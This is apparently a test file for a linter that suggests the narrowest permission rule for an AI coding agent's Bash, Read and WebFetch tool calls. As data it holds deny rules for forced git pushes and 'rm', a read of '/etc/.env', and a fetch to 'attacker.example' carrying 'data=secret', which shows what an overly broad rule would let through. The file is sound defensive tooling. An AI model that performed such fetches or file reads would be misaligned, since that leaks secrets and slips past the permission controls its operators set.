import { beforeAll, describe, expect, it } from 'vitest';
import { prepare } from '../../src/evaluate/index.js';
import { formatWhatIf, whatIf } from '../../src/lint/index.js';
import { projectFixture } from '../../src/testing/fixture.js';

beforeAll(async () => {
  await prepare();
});

describe('whatIf', () => {
  it('offers the narrowest allow rule first, with what broader ones also allow', async () => {
    const project = await projectFixture({ settings: { project: { permissions: { deny: ['Bash(git push --force *)'] } } } });
    const r = whatIf({ tool: 'Bash', input: { command: 'git push origin main' } }, project.context);
    expect(r.decision.behavior).toBe('ask');
    expect(r.smallest?.rule).toBe('Bash(git push origin main)');
    expect(r.candidates.map((c) => c.rule)).toEqual(['Bash(git push origin main)', 'Bash(git push origin *)', 'Bash(git push *)', 'Bash(git *)', 'Bash']);
    const push = r.candidates.find((c) => c.rule === 'Bash(git push *)')!;
    expect(push.alsoAllows).toContain('Bash(git push x)');
    // the deny rule still wins over any added allow rule:
    expect(push.alsoAllows.some((c) => c.includes('--force'))).toBe(false);
    expect(formatWhatIf(r)).toMatch(/smallest rule that allows it is "Bash\(git push origin main\)"/);
  });

  it('says so when no allow rule can answer a firm ask', async () => {
    const project = await projectFixture({ settings: { project: { permissions: { ask: ['Bash(git push *)'] } } } });
    const r = whatIf({ tool: 'Bash', input: { command: 'git push' } }, project.context);
    expect(r.smallest).toBeUndefined();
    expect(r.candidates.every((c) => !c.allows)).toBe(true);
    expect(formatWhatIf(r)).toMatch(/no single allow rule/);
  });

  it('path and domain candidates', async () => {
    const project = await projectFixture({});
    const read = whatIf({ tool: 'Read', input: { file_path: '/etc/hosts' } }, project.context);
    expect(read.smallest?.rule).toBe('Read(//etc/hosts)');
    const dir = read.candidates.find((c) => c.rule === 'Read(//etc/**)')!;
    expect(dir.alsoAllows).toContain('Read(/etc/.env)');
    const web = whatIf({ tool: 'WebFetch', input: { url: 'https://docs.example.com/a' } }, project.context);
    expect(web.candidates.map((c) => c.rule)).toEqual(['WebFetch(domain:docs.example.com)', 'WebFetch(domain:*.example.com)', 'WebFetch']);
    expect(web.candidates.at(-1)?.alsoAllows).toContain('WebFetch(https://attacker.example/?data=secret)');
  });

  it('has no candidates for calls already decided', async () => {
    const project = await projectFixture({ settings: { project: { permissions: { deny: ['Bash(rm *)'] } } } });
    expect(whatIf({ tool: 'Bash', input: { command: 'rm x' } }, project.context).candidates).toEqual([]);
    expect(whatIf({ tool: 'Bash', input: { command: 'ls' } }, project.context).candidates).toEqual([]);
  });
});
